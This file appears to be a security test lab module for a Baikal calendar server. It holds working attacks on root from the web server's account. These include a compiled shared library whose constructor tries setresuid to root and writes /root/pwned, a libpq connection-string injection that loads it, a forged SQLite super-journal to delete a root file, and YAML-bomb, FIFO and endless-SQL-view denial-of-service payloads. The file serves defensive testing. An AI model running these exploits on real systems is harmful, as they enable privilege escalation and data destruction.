"""Attacks on root that PHP's account can run or write: Python programs, a C library, contents of files."""

from __future__ import annotations

import shutil
import subprocess
from typing import TYPE_CHECKING, Final

from tests.lab.engine import apt_install
from tests.lab.errors import LabError

if TYPE_CHECKING:
    from pathlib import Path

DATA: Final = "/var/lib/baikal"
YAML: Final = f"{DATA}/config/baikal.yaml"
DATABASE: Final = f"{DATA}/Specific/db/db.sqlite"
LIBRARY: Final = f"{DATA}/Specific/evil.so"
LOADED: Final = f"{DATA}/Specific/loaded"
"""The library records here which account has loaded it."""
PWNED: Final = "/root/pwned"
"""The library writes this file if it can become root."""
VICTIM: Final = "/root/victim"
"""A file of root that a journal names, so that it would be deleted."""
PORT: Final = 5499
STOP: Final = "/tmp/stop"  # noqa: S108 - on the machine under test

_SOURCE: Final = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static void write_line(const char *path, int uid, int result) {
    int file = open(path, O_CREAT | O_WRONLY | O_APPEND | O_NOFOLLOW, 0666);
    if (file >= 0) {
        fchmod(file, 0666);
        char program[256] = "";
        readlink("/proc/self/exe", program, sizeof program - 1);
        dprintf(file, "%s has loaded it: user id %d, setresuid(0, 0, 0) returned %d\n", program, uid, result);
        close(file);
    }
}
__attribute__((constructor)) static void become_root(void) {
    int uid = getuid(), result = setresuid(0, 0, 0);
    write_line(LOADED, uid, result);
    write_line(OLD, uid, result);
    if (result == 0) write_line(PWNED, uid, result);
}
"""
LISTEN: Final = f"""
import os, socket, sys, threading
server = socket.create_server(("127.0.0.1", {PORT}))
if os.fork():
    os._exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for descriptor in (0, 1, 2):
    os.dup2(null, descriptor)
answer, record = sys.argv[1].encode(), sys.argv[2]
server.settimeout(1)
while not os.path.exists("{STOP}"):
    try:
        client, _ = server.accept()
    except TimeoutError:
        continue
    client.settimeout(5)
    try:
        with open(record, "ab") as file:
            file.write(client.recv(4096))
            client.sendall(answer)
            file.write(client.recv(4096))
    except OSError:
        pass
    client.close()
"""
RECEIVED: Final = "/tmp/received"  # noqa: S108 - on the machine under test
CHANGE_SECTION: Final = f"""
import json, sys, yaml
configuration = yaml.safe_load(open("{YAML}"))
configuration["database"].update(json.loads(sys.argv[1]))
open("{YAML}", "w").write(yaml.safe_dump(configuration))
"""

SUPER_JOURNAL: Final = f"""
import os, sqlite3, struct, sys
database, mode = sys.argv[1:]
connection = sqlite3.connect(database)
connection.execute("PRAGMA journal_mode = DELETE")
(size,) = connection.execute("PRAGMA page_size").fetchone()
connection.close()
magic, name, pages = bytes.fromhex("d9d505f920a163d7"), b"{VICTIM}", os.path.getsize(database) // size
journal = (magic + struct.pack(">5I", 0, 0, pages, 512, size)).ljust(512, bytes(1))
journal += struct.pack(">I", 2**30 // size + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
def appear():
    with open(database + ".x", "wb") as file:
        file.write(journal)
    os.rename(database + ".x", database + "-journal")
appear()
if mode == "once":
    sys.exit()
if os.fork():
    os._exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for descriptor in (0, 1, 2):
    os.dup2(null, descriptor)
while not os.path.exists("{STOP}"):
    if not os.path.exists(database + "-journal"):
        appear()
"""
"""Writes a journal for a database that names :data:`VICTIM` as super-journal: ``once``, or after each removal."""
_BOMB: Final = "more:\n  a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"  a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9)
)
_REPLACED: Final = "import os\nos.path.lexists({path!r}) and os.unlink({path!r})\n"
KEPT: Final = f"{DATA}/mail/kept/1700000000.1.0.eml"
QUEUED: Final = "/var/spool/nullmailer/queue/1700000000.1"


def fifo(path: str) -> str:
    """Return a program that replaces a file by a FIFO."""
    return _REPLACED.format(path=path) + f"os.mkfifo({path!r})\n"


ATTACKS: Final = {
    "yaml with aliases that expand": f"""
import re
text = open("{YAML}").read()
text = re.sub("configured_version: .*", "configured_version: *a8", text)
open("{YAML}", "w").write({_BOMB!r} + text)
""",
    "yaml of 200 GiB": f'import os\nos.truncate("{YAML}", 200 << 30)\n',
    "a FIFO as yaml": fifo(YAML),
    "a FIFO as the database": fifo(DATABASE),
    "users without end": f"""
import sqlite3
connection = sqlite3.connect("{DATABASE}", isolation_level=None)
connection.execute("ALTER TABLE users RENAME TO u")
connection.execute("CREATE VIEW users AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
    "SELECT i AS id, 'x' || i AS username, 'x' || i AS digesta1 FROM n")
""",  # noqa: S608 - hostile it is meant to be
}
"""Programs by name; each writes data that would block, or exhaust the memory of, a careless reader."""


def section(folder: str) -> dict[str, str]:
    """Return a section ``database`` for baikal.yaml that makes libpq load the library in ``folder``."""
    options = f"sslmode=require;sslcert={folder}/c.pem;sslkey={folder}/evil.so:x"
    names = dict.fromkeys(("pgsql_dbname", "pgsql_username", "pgsql_password"), "x")
    return {"backend": "pgsql", "pgsql_host": f"127.0.0.1;port={PORT};{options}", **names}


def self_signed(folder: str) -> str:
    """Return the command that creates the certificate that libpq needs besides a key."""
    return (
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -days 2"
        f" -keyout /dev/null -out {folder}/c.pem 2>/dev/null"
    )


def library(folder: Path) -> Path:
    """Compile the library: its constructor writes :data:`LOADED`, and as root also :data:`PWNED`."""
    if not shutil.which("cc"):
        apt_install(("gcc", "libc6-dev"))
    source, target = folder / "evil.c", folder / "evil.so"
    source.write_text(_SOURCE, encoding="ascii")
    names = [
        f'-D{name}="{path}"' for name, path in (("LOADED", LOADED), ("PWNED", PWNED), ("OLD", "/old/Specific/loaded"))
    ]
    done = subprocess.run(
        ["cc", "-shared", "-fPIC", *names, "-o", target, source], capture_output=True, text=True, check=False
    )
    if done.returncode:
        message = f"the library can't be compiled:\n{done.stderr}"
        raise LabError(message)
    return target
